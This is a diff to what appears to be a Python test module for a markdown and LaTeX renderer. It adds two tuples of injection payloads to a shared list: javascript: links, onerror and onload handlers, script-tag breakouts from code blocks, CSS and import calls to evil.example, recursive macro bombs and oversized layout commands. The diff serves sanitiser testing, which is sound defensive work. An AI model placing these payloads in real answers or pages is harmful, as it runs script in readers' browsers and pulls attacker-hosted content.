@@ -399,6 +399,25 @@ SWALLOWING: Final = (  # what follows would be part of them
     "$$<img src=x onerror=pwned()>",
 )
 
+FORMULAS: Final = (  # what is drawn: neither links nor pictures nor HTML
+    r"$\href{javascript:pwned()}{x}$ $\url{https://evil.example/}$",
+    rf"$\includegraphics[width=9em]{{{EVIL}/x.png}}$",
+    r"$\htmlData{x=y}{a} \htmlId{app}{b} \htmlClass{composer}{c} \htmlStyle{position:fixed}{d}$",
+    r"$$\text{<img src=x onerror=pwned()>} \texttt{</span><script>pwned()</script>}$$",
+    r"\(\color{red;background:url(https://evil.example/x.png)} x\)",
+    r"$\def\a{\a\a}\a$ $\def\b#1{#1#1}\b{\b{\b{\b{x}}}}$",
+    r"$\rule{9999em}{9999em}$ $\kern-999em x$ $\raisebox{999em}{up}$",
+    r"$\char'00 \unicode{x202e}$ `$x$` \$x\$ $<svg onload=pwned()>$",
+)
+COLOURED: Final = (
+    "```html\n<img src=x onerror=pwned()></code></pre><script>pwned()</script>\n```",
+    f"```javascript\nimport('{EVIL}/x.js'); `${{pwned()}}` // <script>pwned()</script> &lt;&amp;\n```",
+    '```css\n@import "https://evil.example/x.css"; a { background: url(javascript:pwned()) }\n```',
+    "```../../main\npwned()\n```",
+    "```constructor\npwned()\n```",
+    '```markdown\n<span class="hljs-x" onclick=pwned()>x</span> ![x](https://evil.example/x.png)\n```',
+)
+
 TOGETHER: Final = (
     *HANDLERS,
     *SCRIPTS,
@@ -411,6 +430,8 @@ TOGETHER: Final = (
     *MISLEADING,
     *UNSEEN,
     *DEEP,
+    *FORMULAS,
+    *COLOURED,
 )
 """Payloads that can stand in one answer, with an empty line between them."""
 
